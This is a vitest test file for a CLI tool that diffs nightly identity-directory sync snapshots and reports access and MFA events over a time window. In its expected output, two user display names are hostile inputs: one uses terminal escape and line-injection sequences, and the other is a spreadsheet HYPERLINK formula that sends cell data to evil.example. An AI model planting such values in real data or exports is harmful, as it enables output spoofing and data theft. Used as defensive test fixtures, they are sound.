import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { run } from "../../../src/cli/main.js";
import { diffDocumentSchema } from "../../../src/diff/document.js";
import type { Grant } from "../../../src/model/grant.js";
import type { Resource } from "../../../src/model/resource.js";
import { acceptFile } from "../../../src/sync-dir/accept.js";
import { datedName } from "../../../src/sync-dir/dated-name.js";
import { locateNext } from "../../../src/sync-dir/next-file.js";
import { temporaryFolder } from "../../support/cli.js";
import { expectScreen } from "../../support/golden-screen.js";
import { type Rewrite, rewriteSyncFile } from "../../support/rewritten.js";
import { fakeIo } from "../fake-io.js";

const path = (name: string) => fileURLToPath(new URL(`../../../fixtures/${name}`, import.meta.url));
const monday = path("demo-sync-monday.json");
const sunday = path("demo-sync.json");

const AWS = "617c3664b07e4d21c83a92ba";
const EVE = "6863c24fb07e4d21c83a927c";
const DANA = "65f79210b07e4d21c83a9282";

/** Eve has AWS Production by herself. */
const eveHasAws: Grant = {
  entitlement: { resource: { id: { resourceType: "app", resource: AWS } }, id: `app:${AWS}:access` },
  principal: { id: { resourceType: "user", resource: EVE } },
  id: `app:${AWS}:access:user:${EVE}`,
};

/** Dana's MFA is known to be off. */
function danaWithoutMfa(resource: Resource): Resource {
  if (resource.id.resource !== DANA) return resource;
  return {
    ...resource,
    annotations: resource.annotations.map((annotation) =>
      "mfaStatus" in annotation ? { ...annotation, mfaStatus: {} } : annotation,
    ),
  };
}

/** Five nights: on the second Eve gets an app that she loses on the fourth; Dana's MFA is off on the third alone. */
const nights: readonly { day: number; from: string; rewrite: Rewrite }[] = [
  { day: 16, from: monday, rewrite: {} },
  { day: 17, from: monday, rewrite: { moreGrants: [eveHasAws] } },
  { day: 18, from: sunday, rewrite: { moreGrants: [eveHasAws], resource: danaWithoutMfa } },
  { day: 19, from: sunday, rewrite: {} },
  { day: 23, from: sunday, rewrite: {} },
];

let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "jc-connector-test-"));
  for (const { day, from, rewrite } of nights) {
    const startedAt = `2026-11-${day}T02:00:03.000Z`;
    const { file, previous } = await locateNext(dir, new Date(startedAt));
    const header = { startedAt, ...(previous && { previous }) };
    const { sha256 } = await rewriteSyncFile({ from, to: join(dir, file) }, { ...rewrite, header });
    await acceptFile(dir, { file, sha256 });
  }
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function diff(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = fakeIo();
  const code = await run(["node", "jc-connector", "diff", "--dir", dir, ...args], io);
  return { code, out: io.stdout.text(), err: io.stderr.text() };
}

describe("diff --since", () => {
  it("tells of each event when it was first seen, and what came and went", async () => {
    const { code, out, err } = await diff("--since", "7d", "--privileged", "AWS*");
    expectScreen("diff-since", out);
    expect({ code, err }).toEqual({
      code: 1,
      err: "Larkspur Instruments, 16 Nov 2026 02:00 UTC → 23 Nov 2026 02:00 UTC, 6 h old, 5 syncs, all complete\n",
    });
  });

  it("has the syncs, the first times and what came and went in its document", async () => {
    const { out } = await diff("--since", "7d", "--format", "json");
    expectScreen("diff-since-json", out.replaceAll(dir, "acme").replace(/"digest":"[^"]+"/g, '"digest":"…"'));
    const document = diffDocumentSchema.parse(JSON.parse(out));
    expect(document.syncs?.map(({ startedAt }) => startedAt.slice(0, 10))).toEqual(
      nights.map(({ day }) => `2026-11-${day}`),
    );
    expect([...new Set(document.events.map(({ seenAt }) => seenAt))]).toEqual(["2026-11-18T02:00:03.000Z"]);
    expect(document.passing).toEqual([
      {
        kind: "mfa-disabled",
        severity: "high",
        who: { id: `user:${DANA}`, displayName: "Dana \u001b[31mKim\u0007\r\nroot" },
        from: "2026-11-18T02:00:03.000Z",
        to: "2026-11-19T02:00:03.000Z",
      },
      {
        kind: "access-gained",
        severity: "low",
        who: { id: `user:${EVE}`, displayName: '=HYPERLINK("https://evil.example/?"&A1,"Eve Mallory")' },
        resource: { id: `app:${AWS}`, displayName: "AWS Production" },
        from: "2026-11-17T02:00:03.000Z",
        to: "2026-11-19T02:00:03.000Z",
      },
    ]);
  });

  it("begins with the sync that was the newest then", async () => {
    const { err } = await diff("--since", "2026-11-18", "--stat");
    expect(err).toContain("17 Nov 2026 02:00 UTC → 23 Nov 2026 02:00 UTC, 6 h old, 4 syncs");
  });

  it("begins with the first one where none is as old", async () => {
    expect((await diff("--since", "2026-10-01", "--stat")).err).toContain("16 Nov 2026 02:00 UTC → ");
  });

  it("is different when something came and went, although nothing is left of it", async () => {
    expect((await diff("--since", "2026-11-18T12:00:00Z", "--exit-zero")).code).toBe(0);
    const calm = await diff("--since", "2026-11-19T12:00:00Z");
    expect(calm).toMatchObject({ code: 0, out: "" });
    expect((await diff("--since", "7d", "--fail-on", "mfa-disabled")).code).toBe(1);
  });

  it.each([
    [["--severity", "high"], ["leaver-still-admin", "admin-added", "mfa-excluded"], ["mfa-disabled"], 1],
    [["--only", "access-gained"], [], ["access-gained"], 1],
    [["--only", "email-changed"], [], [], 0],
  ])("with %j shows these events and these that came and went", async (flags, events, passing, code) => {
    const seen = await diff("--since", "7d", "--format", "json", ...flags);
    const document = diffDocumentSchema.parse(JSON.parse(seen.out));
    expect(document.events.map(({ event }) => event)).toEqual(events);
    expect(document.passing?.map(({ kind }) => kind)).toEqual(passing);
    expect(seen.code).toBe(code);
  });

  it("says so where the folder has no two files since then", async () => {
    const { code, err } = await diff("--since", "1h");
    expect(code).toBe(2);
    expect(err).toContain("it has no two accepted files since 23 Nov 2026 08:00 UTC\n");
  });
});

describe("diff --dir", () => {
  it("compares the last two files of the folder", async () => {
    const { code, out, err } = await diff();
    expect({ code, out }).toEqual({ code: 0, out: "" });
    expect(err).toContain("19 Nov 2026 02:00 UTC → 23 Nov 2026 02:00 UTC");
  });

  it("compares one file with the newest of the folder", async () => {
    const { err } = await diff(monday, "--stat");
    expect(err).toContain("16 Nov 2026 02:00 UTC → 23 Nov 2026 02:00 UTC");
  });

  it("says so where the folder has one file alone", async () => {
    const alone = temporaryFolder();
    const file = datedName(new Date("2026-11-16T02:00:00Z"));
    const { sha256 } = await rewriteSyncFile({ from: monday, to: join(alone, file) }, {});
    await acceptFile(alone, { file, sha256 });
    const io = fakeIo();
    expect(await run(["node", "jc-connector", "diff", "--dir", alone], io)).toBe(2);
    expect(io.stderr.text()).toBe(
      `jc-connector: ${alone}: it has only one accepted file, and a comparison needs two\n`,
    );
  });
});
